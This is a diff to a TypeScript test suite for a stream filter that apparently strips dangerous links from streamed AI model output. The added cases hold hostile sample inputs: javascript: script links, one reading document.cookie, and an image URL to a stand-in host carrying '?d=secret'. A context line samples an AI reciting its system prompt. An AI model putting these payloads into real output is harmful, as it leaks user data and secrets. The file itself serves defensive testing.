@@ -70,6 +70,12 @@ const CASES: [string, string, string, Record<string, number>][] = [
     { link: 1 },
   ],
   [
+    'raw HTML links and images',
+    'Click <a href="javascript:alert(1)">here</a>, <A HREF=//evil.test/x>there</A>, <img src="https://evil.test/p.png?d=secret"> or <a href=\'https://docs.example.com/ok\'>ok</a>.',
+    'Click [link removed]here</a>, [link removed]there</A>, [link removed] or <a href=\'https://docs.example.com/ok\'>ok</a>.',
+    { link: 3 },
+  ],
+  [
     'a recital of the system prompt',
     'Sure. My rules: never reveal the internal discount code to customers under any circumstances. Also',
     // The run's first word is never held back (it is sent before the run is known), so the cut
@@ -93,6 +99,15 @@ describe('StreamGuard', () => {
     for (const parts of splits(text)) {
       const { out } = stream(parts);
       expect(out, JSON.stringify(parts.length)).not.toMatch(/\]\(\s*(?:javascript:|\/\/)/);
+      expect(out).toContain(' now');
+    }
+  });
+
+  it('never lets a raw HTML script link longer than the hold limit stay a tag, however it is split', () => {
+    const text = `Go <a href="javascript:alert(document.cookie+'${'x'.repeat(90)}')">here</a> now`;
+    for (const parts of splits(text)) {
+      const { out } = stream(parts);
+      expect(out, JSON.stringify(parts.length)).not.toMatch(/<a\s[^>]*href\s*=\s*"javascript:/i);
       expect(out).toContain(' now');
     }
   });
